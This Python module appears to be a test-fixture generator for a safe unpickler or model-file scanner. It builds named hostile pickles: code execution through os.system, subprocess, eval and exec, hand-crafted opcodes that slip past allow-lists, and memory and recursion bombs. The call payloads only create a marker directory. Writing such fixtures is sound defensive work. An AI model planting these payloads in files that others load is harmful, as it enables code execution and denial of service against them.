"""Pickles that do harm to whoever runs them: by calls, by opcodes, by size, by shape. ``hostile`` names and makes them.

Each that calls something tries to leave a trace at ``{}``. They are strings of opcodes or made by ``pickle`` itself.
"""

import codecs
import collections
import ctypes
import functools
import importlib
import io
import logging
import marshal
import operator
import os
import pathlib
import pickle
import runpy
import shutil
import sqlite3
import struct
import subprocess
import tempfile
import timeit
import types
import zipfile
from collections.abc import Callable
from typing import Any

import numpy as np
import torch

__all__ = ["CALLS", "OPCODES", "SIZES", "Call", "hostile", "nested"]


class Call:
    """Pickled as a call of ``function``, which then happens to whoever reads the pickle."""

    def __init__(self, function: Any, *args: Any):
        self.call = function, args

    def __reduce__(self):
        return self.call


def chain(trace: str) -> Call:
    """``getattr(__import__("os"), "mkdir")(trace)``, with names that look harmless one by one."""
    return Call(Call_of(Call(getattr, Call(__import__, "os"), "mkdir")), trace)


class Call_of:
    """The result of a call, as what is called next; pickle wants it to look callable."""

    def __init__(self, inner: Call):
        self.inner = inner

    def __call__(self):
        raise AssertionError

    def __reduce__(self):
        return self.inner.call


THE_OS = Call(importlib.import_module, "os")
CODE = "__import__('os').mkdir({!r})"

CALLS: dict[str, Callable[[str], Any]] = {
    "os.system": lambda t: Call(os.system, f"mkdir {t}"),
    "os.mkdir": lambda t: Call(os.mkdir, t),
    "os.makedirs": lambda t: Call(os.makedirs, t),
    "os.popen": lambda t: Call(os.popen, f"mkdir {t}"),
    "os.symlink": lambda t: Call(os.symlink, "/", t),
    "os.execv": lambda t: Call(os.execv, "/bin/mkdir", ["mkdir", t]),
    "os.posix_spawn": lambda t: Call(os.posix_spawn, "/bin/mkdir", ["mkdir", t], {}),
    "subprocess.Popen": lambda t: Call(subprocess.Popen, ["mkdir", t]),
    "subprocess.run": lambda t: Call(subprocess.run, ["mkdir", t]),
    "subprocess.check_output": lambda t: Call(subprocess.check_output, ["mkdir", t]),
    "eval": lambda t: Call(eval, CODE.format(t)),
    "exec": lambda t: Call(exec, CODE.format(t)),
    "compile": lambda t: Call(exec, Call(compile, CODE.format(t), "x", "exec")),
    "open": lambda t: Call(open, t, "w"),
    "io.FileIO": lambda t: Call(io.FileIO, t, "w"),
    "codecs.open": lambda t: Call(codecs.open, t, "w"),
    "getattr chain": chain,
    "operator.attrgetter": lambda t: Call(Call_of(Call(operator.attrgetter("mkdir"), THE_OS)), t),
    "operator.methodcaller": lambda t: Call(operator.methodcaller("mkdir"), pathlib.PurePath(t)),
    "functools.partial": lambda t: Call(functools.partial(os.mkdir, t)),
    "functools.reduce": lambda t: Call(functools.reduce, os.mkdir, [t, 0o777]),
    "map": lambda t: Call(list, Call(map, os.mkdir, [t])),
    "importlib": lambda t: Call(importlib.import_module, "antigravity"),
    "__import__": lambda t: Call(__import__, "antigravity"),
    "runpy": lambda t: Call(runpy.run_path, t),
    "ctypes.CDLL": lambda t: Call(ctypes.CDLL, None),
    "pickle in pickle": lambda t: Call(pickle.loads, pickle.dumps(Call(os.mkdir, t))),
    "marshal": lambda t: Call(exec, Call(marshal.loads, marshal.dumps(compile(CODE.format(t), "x", "exec")))),
    "types.new_class": lambda t: Call(types.new_class, t),
    "shutil": lambda t: Call(shutil.copytree, os.path.dirname(__file__), t),
    "sqlite3": lambda t: Call(sqlite3.connect, t),
    "tempfile": lambda t: Call(tempfile.mkdtemp, "", "", os.path.dirname(t)),
    "zipfile": lambda t: Call(zipfile.ZipFile, t, "w"),
    "timeit": lambda t: Call(timeit.timeit, CODE.format(t)),
    "logging": lambda t: Call(logging.FileHandler, t),
    "namedtuple": lambda t: Call(collections.namedtuple, "a", CODE.format(t)),
    "torch.save": lambda t: Call(torch.save, 1, t),
    "torch.load": lambda t: Call(torch.load, t),
    "torch.hub.load": lambda t: Call(torch.hub.load, t, "x"),
    "torch.jit.load": lambda t: Call(torch.jit.load, t),
    "numpy.save": lambda t: Call(np.save, t, 1),
    "numpy.fromfile": lambda t: Call(np.fromfile, t),
    "input": lambda t: Call(input),
    "breakpoint": lambda t: Call(breakpoint),
    "exit": lambda t: Call(os._exit, 0),
    "setattr": lambda t: Call(setattr, THE_OS, "x", 1),
    "globals": lambda t: Call(globals),
}


def word(text: str) -> bytes:
    return pickle.SHORT_BINUNICODE + bytes([len(text.encode())]) + text.encode()


def named(module: str, name: str) -> bytes:
    return word(module) + word(name) + pickle.STACK_GLOBAL


def doubled(times: int, pair: bytes) -> bytes:
    """What was remembered last beside itself, over and over: 2^times leaves in so many bytes."""
    return b"".join(b"0h" + bytes([i, ord("h"), i]) + pair + pickle.MEMOIZE for i in range(times))


OPCODES: dict[str, Callable[[str], bytes]] = {
    "INST": lambda t: f"(Vmkdir {t}\nios\nsystem\n.".encode(),
    "OBJ": lambda t: f"(cos\nsystem\nVmkdir {t}\no.".encode(),
    "GLOBAL of protocol 0": lambda t: f"cos\nsystem\n(S'mkdir {t}'\ntR.".encode(),
    "GLOBAL of python 2": lambda t: f"c__builtin__\neval\n(V{CODE.format(t)}\ntR.".encode(),
    "NEWOBJ": lambda t: b"\x80\x04" + named("os", "mkdir") + word(t) + b"\x85\x81.",
    "NEWOBJ_EX": lambda t: b"\x80\x04" + named("os", "mkdir") + word(t) + b"\x85}\x92.",
    "NEWOBJ_EX of an allowed name": lambda t: b"\x80\x04" + named("builtins", "set") + b")}\x92.",
    "STACK_GLOBAL": lambda t: b"\x80\x04" + named("os", "mkdir") + word(t) + b"\x85R.",
    "a dotted name": lambda t: b"\x80\x04" + named("torch", "hub.os.mkdir") + word(t) + b"\x85R.",
    "a name in an allowed module": lambda t: b"\x80\x04" + named("torch._utils", "sys.modules") + b".",
    "a name below an allowed name": lambda t: b"\x80\x04" + named("numpy", "dtype.__subclasses__") + b")R.",
    "a memoized name": lambda t: b"\x80\x04\x8c\x02os\x94\x8c\x05mkdir\x94h\x00h\x01\x93" + word(t) + b"\x85R.",
    "a name of no text": lambda t: b"\x80\x04K\x01K\x02\x93.",
    "EXT1": lambda t: b"\x80\x02\x82\x01.",
    "EXT2": lambda t: b"\x80\x02\x83\x01\x01.",
    "EXT4": lambda t: b"\x80\x02\x84\x01\x01\x01\x01.",
    "PERSID": lambda t: f"P{t}\n.".encode(),
    "BINPERSID": lambda t: b"\x80\x04" + word(t) + b"Q.",
    "NEXT_BUFFER": lambda t: b"\x80\x05\x97.",
    "READONLY_BUFFER": lambda t: b"\x80\x05\x97\x98.",
    "BYTEARRAY8": lambda t: b"\x80\x05\x96" + struct.pack("<Q", 1) + b"x.",
    "BUILD on a name": lambda t: b"\x80\x04" + named("collections", "OrderedDict") + b"}" + word("x") + b"K\x01sb.",
    "APPENDS to a name": lambda t: b"\x80\x04" + named("collections", "OrderedDict") + b"(K\x01e.",
    "SETITEMS on a tuple": lambda t: b"\x80\x04)(K\x01K\x02u.",
    "REDUCE of a text": lambda t: b"\x80\x04" + word("os.mkdir") + word(t) + b"\x85R.",
    "REDUCE of a record": lambda t: b"\x80\x04" + named("builtins", "getattr") + b")R" + word(t) + b"\x85R.",
    "arguments of no tuple": lambda t: b"\x80\x04" + named("builtins", "getattr") + b"]R.",
    "an odd dictionary": lambda t: b"\x80\x04}(K\x01u.",
    "a list as a key": lambda t: b"\x80\x04}]K\x01s.",
    "a tuple as a key": lambda t: b"\x80\x04})K\x01s.",
    "nothing on the stack": lambda t: b"\x80\x04R.",
    "no mark": lambda t: b"\x80\x04t.",
    "a memo that is empty": lambda t: b"\x80\x04h\x07.",
    "only a STOP": lambda t: b".",
    "no STOP": lambda t: b"\x80\x04}",
    "an unknown opcode": lambda t: b"\x80\x04\xff.",
    "a protocol of the future": lambda t: b"\x80\xff}.",
    "a bad number": lambda t: b"Ix\n.",
    "a bad escape": lambda t: b"V\\ud8\n.",
    "bytes that are no text": lambda t: b"\x80\x04\x8c\x02\xff\xfe.",
    "nothing at all": lambda t: b"",
    "one byte": lambda t: b"\x80",
}

SIZES: dict[str, Callable[[str], bytes]] = {
    "a text of exabytes": lambda t: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"x.",
    "a text of more than all bytes": lambda t: b"\x80\x04\x8d" + struct.pack("<Q", (1 << 64) - 1) + b"x.",
    "bytes of exabytes": lambda t: b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"x.",
    "a frame of exabytes": lambda t: b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b".",
    "a number of gigabytes": lambda t: b"\x80\x02\x8b" + struct.pack("<i", (1 << 31) - 1) + b"x.",
    "a number of negative size": lambda t: b"\x80\x02\x8b" + struct.pack("<i", -1) + b"x.",
    "a number of a million digits": lambda t: b"I" + b"9" * 1_000_000 + b"\n.",
    "a large number": lambda t: b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + b"x" * (1 << 20) + b".",
    "a memo far away": lambda t: b"\x80\x04}r\xff\xff\xff\xff.",
    "tuples doubled sixty times": lambda t: b"\x80\x04)\x94" + doubled(60, b"\x86") + b".",
    "a name doubled sixty times": lambda t: b"\x80\x04)\x94" + doubled(60, b"\x86") + word("x") + b"\x93.",
    "DUP": lambda t: b"\x80\x04)" + b"2\x86" * 60 + b".",
    "tuples of tuples of tuples": lambda t: b"\x80\x04)" + b"\x85" * 100_000 + b".",
    "a tower as a key": lambda t: b"\x80\x04})" + b"\x85" * 100_000 + b"K\x01s.",
    "lists of lists of lists": lambda t: b"\x80\x04" + b"]" * 100_000 + b"a" * 99_999 + b".",
    "marks of marks": lambda t: b"\x80\x04" + b"(" * 100_000 + b"t" * 100_000 + b".",
    "a million steps": lambda t: b"\x80\x04" + b"}0" * 500_000 + b".",
    "a list of itself": lambda t: b"\x80\x04]\x94h\x00a.",
    "a dictionary of itself": lambda t: b"\x80\x04}\x94" + word("ema") + b"h\x00s.",
}


def nested(inner: bytes) -> Call:
    """Bytes that torch would unpickle without a look at them."""
    return Call(torch.storage._load_from_bytes, inner)


def hostile(trace: str) -> dict[str, bytes]:
    """All of them by name; whoever runs one leaves something at ``trace``, or does not come back."""
    calls = {f"{name}, protocol {p}": make(trace) for p, name, make in _each(CALLS)}
    made = {name: pickle.dumps(call, int(name[-1])) for name, call in calls.items()}
    raw = {name: make(trace) for name, make in {**OPCODES, **SIZES}.items()}
    inner = {f"nested {name}": pickle.dumps(nested(make(trace)), 4) for name, make in list(OPCODES.items())[:8]}
    return {**made, **raw, **inner}


def _each(calls: dict[str, Callable[[str], Any]]):
    """A protocol for each, in turn, so that all of them are seen."""
    return [(i % 6, name, make) for i, (name, make) in enumerate(calls.items())]
